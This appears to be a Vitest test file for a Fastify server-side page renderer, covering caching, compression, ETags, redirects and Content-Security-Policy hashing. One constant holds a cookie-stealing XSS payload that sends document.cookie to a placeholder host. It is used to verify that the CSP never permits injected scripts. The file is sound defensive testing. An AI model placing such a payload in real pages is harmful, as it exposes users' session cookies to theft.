import { createHash } from 'node:crypto';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import fastifyCookie from '@fastify/cookie';
import fastifyCompress from '@fastify/compress';
import { createTRPCClient } from '@trpc/client';
import Fastify, { type FastifyInstance } from 'fastify';
import { registerSecurityHeaders } from '../http/security-headers.js';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestApp, TEST_ADMIN_PASSWORD, validBook, type TestApp } from '../../test-support/test-app.js';
import type { AppRouter } from '../../trpc/app-router.js';
import { COMPRESSION_THRESHOLD_BYTES } from '../cache/cached-body.js';
import type { CacheShelf } from '../cache/public-cache.js';
import {
  cacheKey,
  createPageRenderer,
  isAnnouncementDismissed,
  pageLocation,
  type RenderedPage,
} from './page-renderer.js';
import type { ClientAssets, SsrEntry, SsrRenderInput, SsrRenderResult } from './types.js';

const ASSETS: ClientAssets = { css: [], scripts: [{ src: '/assets/entry.js' }], preloads: [], chunks: {} };
const INLINE_SCRIPT = 'self.$_TSR={}';
/** A script that reached the page through content (an HTML injection), not written by the renderer. */
const INJECTED_SCRIPT = "fetch('https://evil.test/?c='+document.cookie)";

describe('request helpers', () => {
  it('reads the announcement cookie among others', async () => {
    // As @fastify/cookie parses a Cookie header into request.cookies (its parser loads with the plugin: the
    // module's own `parse` works only once some app has registered it, so this file would depend on the order).
    const withCookies = Fastify();
    await withCookies.register(fastifyCookie).ready();
    const dismissed = (header: string) => isAnnouncementDismissed(withCookies.parseCookie(header));
    expect(isAnnouncementDismissed(undefined)).toBe(false);
    expect(dismissed('a=1; announcementDismissed=1')).toBe(true);
    expect(dismissed('announcementDismissed=1')).toBe(true);
    expect(dismissed('announcementDismissed=0; b=2')).toBe(false);
    expect(dismissed('xannouncementDismissed=1')).toBe(false);
    await withCookies.close();
  });

  it('keys pages by path, ignoring query strings that do not change the page', () => {
    expect(pageLocation('/books?utm_source=x&b=2')).toBe('/books');
    expect(pageLocation('/blog/abc')).toBe('/blog/abc');
    // The music tab is its own page before the script runs; any other tab value is the gallery.
    expect(pageLocation('/art-music?tab=music&utm_source=x')).toBe('/art-music?tab=music');
    expect(pageLocation('/art-music?tab=videos')).toBe('/art-music');
    expect(pageLocation('//evil.example/books')).toBe('//evil.example/books');
    expect(cacheKey('http://a', '/books', true)).not.toBe(cacheKey('http://a', '/books', false));
  });

  it('keeps the blog category when it names one, so each filtered list is its own page', () => {
    expect(pageLocation('/blog?utm_source=x&category=soundtracks')).toBe('/blog?category=soundtracks');
    expect(pageLocation('/blog?category=Non%20Sense')).toBe('/blog');
    expect(pageLocation('/blog?category=')).toBe('/blog');
    expect(pageLocation('/books?category=soundtracks')).toBe('/books');
    expect(pageLocation('/blog/abc?category=soundtracks')).toBe('/blog/abc');
    expect(cacheKey('http://a', '/books', false)).not.toBe(cacheKey('http://b', '/books', false));
  });

  it('keeps the words of a search, and nothing else of its query string', () => {
    expect(pageLocation('/search?utm_source=x&q=ash%20crown')).toBe('/search?q=ash+crown');
    expect(pageLocation('/search?q=')).toBe('/search');
    expect(pageLocation('/search')).toBe('/search');
    expect(pageLocation('/books?q=ash')).toBe('/books');
  });
});

describe('createPageRenderer', () => {
  let testApp: TestApp;
  let app: FastifyInstance;
  let renders: SsrRenderInput[];
  let respond: (input: SsrRenderInput) => Promise<SsrRenderResult>;
  let cache: CacheShelf<RenderedPage>;

  /** A stand-in for the React renderer: lists the books it reads through the given tRPC link. */
  const entry: SsrEntry = {
    render: async (input) => {
      renders.push(input);
      return respond(input);
    },
  };

  async function listingPage(input: SsrRenderInput): Promise<SsrRenderResult> {
    const client = createTRPCClient<AppRouter>({ links: [input.trpcLink] });
    const books = await client.books.list.query();
    const bar = input.announcementDismissed ? '' : '<aside>Announcement</aside>';
    return {
      kind: 'page',
      status: new URL(input.url).pathname === '/missing' ? 404 : 200,
      cacheable: true,
      // Padded to a real page's size: bodies under 1 KB are never compressed.
      html:
        `<!DOCTYPE html><html><body>${bar}<ul>${books.map((book) => `<li>${book.title}</li>`).join('')}</ul>` +
        `<p>${'Ash. '.repeat(300)}</p><div class="post"><script>${INJECTED_SCRIPT}</script></div>` +
        `<script nonce="${input.scriptNonce}">${INLINE_SCRIPT}</script></body></html>`,
    };
  }

  beforeAll(async () => {
    testApp = await createTestApp();
  });
  afterAll(async () => {
    await testApp.close();
  });

  beforeEach(async () => {
    renders = [];
    respond = listingPage;
    cache = testApp.services.cache.shelf<RenderedPage>(10);
    app = Fastify();
    registerSecurityHeaders(app);
    // As in app.ts: cookies parsed by @fastify/cookie; the compress plugin compresses what the cache does not keep.
    await app.register(fastifyCookie);
    await app.register(fastifyCompress, { threshold: COMPRESSION_THRESHOLD_BYTES, encodings: ['br', 'gzip'] });
    const servePage = createPageRenderer({
      services: testApp.services,
      loadEntry: async () => entry,
      assets: async () => ASSETS,
      cache,
      log: app.log,
    });
    app.get('/*', (request, reply) => servePage(request, reply));
    await app.ready();
  });
  afterEach(async () => {
    await app.close();
  });

  const get = (url: string, headers: Record<string, string> = {}) => app.inject({ method: 'GET', url, headers });

  it('renders a page with data read in-process through the tRPC link', async () => {
    await testApp.callerWithKey(TEST_ADMIN_PASSWORD).books.create({ ...validBook, title: 'Rendered In Process' });
    const response = await get('/books');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(response.body).toContain('<li>Rendered In Process</li>');
    expect(renders[0]!.url).toBe('http://localhost:80/books');
    expect(renders[0]!.assets).toBe(ASSETS);
  });

  it('renders each page once, then serves it from the cache (query strings ignored)', async () => {
    const first = await get('/books');
    const second = await get('/books?utm_source=newsletter');
    expect(second.body).toBe(first.body);
    expect(renders).toHaveLength(1);
  });

  it('keeps the announcement-dismissed variant apart', async () => {
    const shown = await get('/about');
    const hidden = await get('/about', { cookie: 'announcementDismissed=1' });
    expect(shown.body).toContain('Announcement');
    expect(hidden.body).not.toContain('Announcement');
    expect(renders.map((input) => input.announcementDismissed)).toEqual([false, true]);
  });

  it('drops every page on a content write, so the next reader sees the new content', async () => {
    await get('/books');
    await testApp.callerWithKey(TEST_ADMIN_PASSWORD).books.create({ ...validBook, title: 'Written Just Now' });
    const after = await get('/books');
    expect(after.body).toContain('Written Just Now');
    expect(renders).toHaveLength(2);
  });

  it('does not keep a page whose render began before a content write', async () => {
    let release!: () => void;
    respond = async (input) => {
      await new Promise<void>((resolve) => (release = resolve));
      return listingPage(input);
    };
    const pending = get('/books');
    await expect.poll(() => renders.length).toBe(1);
    testApp.services.cache.clear();
    release();
    await pending;
    respond = listingPage;
    await get('/books');
    expect(renders).toHaveLength(2);
  });

  it('shares one render between concurrent requests for the same page', async () => {
    const responses = await Promise.all([get('/books'), get('/books'), get('/books')]);
    expect(responses.map((response) => response.statusCode)).toEqual([200, 200, 200]);
    expect(renders).toHaveLength(1);
  });

  it('does not cache a page rendered with a failed read', async () => {
    respond = async (input) => ({ ...(await listingPage(input)), cacheable: false });
    await get('/books');
    await get('/books');
    expect(renders).toHaveLength(2);
  });

  it('renders search results for each request, never kept, and marks them noindex', async () => {
    const first = await get('/search?q=ash');
    await get('/search?q=ash');
    await get('/search?q=crown');
    expect(renders.map((input) => input.url)).toEqual([
      'http://localhost:80/search?q=ash',
      'http://localhost:80/search?q=ash',
      'http://localhost:80/search?q=crown',
    ]);
    expect(first.headers['x-robots-tag']).toBe('noindex');
    expect((await get('/books')).headers['x-robots-tag']).toBeUndefined();
  });

  it('leaves a page rendered for one reader to the compress plugin, and keeps the cached page’s compressed forms', async () => {
    const search = await get('/search?q=ash', { 'accept-encoding': 'br' });
    expect(search.headers['content-encoding']).toBe('br');
    expect(search.headers.vary).toBe('Cookie, accept-encoding');
    expect(brotliDecompressSync(search.rawPayload).toString()).toContain('<!DOCTYPE html>');
    const plainSearch = await get('/search?q=ash');
    expect(plainSearch.headers['content-encoding']).toBeUndefined();
    expect(plainSearch.headers.vary).toBe('Cookie');

    const first = await get('/books', { 'accept-encoding': 'br' });
    const second = await get('/books', { 'accept-encoding': 'br' });
    expect(first.headers.vary).toBe('Accept-Encoding, Cookie');
    expect(second.rawPayload.equals(first.rawPayload)).toBe(true);
    expect(cache.get(cacheKey('http://localhost:80', '/books', false))?.kept).toBe(true);
    expect(cache.get(cacheKey('http://localhost:80', '/search?q=ash', false))).toBeUndefined();
  });

  it('keeps the status of a not-found page, and caches it', async () => {
    expect((await get('/missing')).statusCode).toBe(404);
    expect((await get('/missing')).statusCode).toBe(404);
    expect(renders).toHaveLength(1);
  });

  it("adds the hashes of the renderer's own inline scripts to the CSP of that page only", async () => {
    const response = await get('/books');
    const hash = `'sha256-${createHash('sha256').update(INLINE_SCRIPT).digest('base64')}'`;
    const policy = String(response.headers['content-security-policy']);
    expect(policy).toMatch(new RegExp(`script-src 'self' ${hash.replace(/[+/]/g, '\\$&')}(;|$)`));
    expect(policy).toContain("object-src 'none'");
  });

  it('never allows an inline script that came with content, on fresh or cached pages, for any reader', async () => {
    const injected = `'sha256-${createHash('sha256').update(INJECTED_SCRIPT).digest('base64')}'`;
    const answers = await Promise.all(
      Array.from({ length: 40 }, (_, n) =>
        get(n % 2 ? '/books' : '/books?utm=x', n % 3 ? {} : { 'accept-encoding': 'br' }),
      ),
    );
    expect(renders).toHaveLength(1);
    for (const response of answers) {
      const policy = String(response.headers['content-security-policy']);
      expect(policy).toMatch(/script-src 'self' 'sha256-[^' ]+'(;|$)/);
      expect(policy).not.toContain(injected);
    }
    // The render's marker never reaches the page that is kept and served to everyone.
    const html = (await get('/books')).body;
    expect(html).not.toMatch(/nonce=/);
    expect(html).toContain(`<script>${INLINE_SCRIPT}</script>`);
  });

  it('sends brotli or gzip bodies, made once per page', async () => {
    const br = await get('/books', { 'accept-encoding': 'gzip, br' });
    expect(br.headers['content-encoding']).toBe('br');
    expect(brotliDecompressSync(br.rawPayload).toString()).toContain('<!DOCTYPE html>');
    const gzip = await get('/books', { 'accept-encoding': 'gzip' });
    expect(gzip.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gzip.rawPayload).toString()).toBe(brotliDecompressSync(br.rawPayload).toString());
    const plain = await get('/books');
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(String(plain.headers.vary)).toMatch(/Accept-Encoding/);
    expect(renders).toHaveLength(1);
  });

  it('answers a matching If-None-Match with 304', async () => {
    const first = await get('/books');
    const etag = String(first.headers.etag);
    const again = await get('/books', { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
  });

  it('passes redirects on', async () => {
    respond = async () => ({ kind: 'redirect', status: 301, location: '/books' });
    const response = await get('/books/');
    expect(response.statusCode).toBe(301);
    expect(response.headers.location).toBe('/books');
  });

  it('sends a path starting with // to the same path on this site', async () => {
    const response = await get('//evil.example/books');
    expect(response.statusCode).toBe(301);
    expect(response.headers.location).toBe('/evil.example/books');
    expect(renders).toHaveLength(0);
  });

  it('answers file paths with a plain 404 without rendering', async () => {
    const response = await get('/assets/nope.js');
    expect(response.statusCode).toBe(404);
    expect(renders).toHaveLength(0);
  });

  it('answers a failed render with a 500 page, and renders again next time', async () => {
    respond = async () => {
      throw new Error('boom');
    };
    const failed = await get('/books');
    expect(failed.statusCode).toBe(500);
    expect(failed.body).toContain('Something went wrong');
    respond = listingPage;
    expect((await get('/books')).statusCode).toBe(200);
  });
});
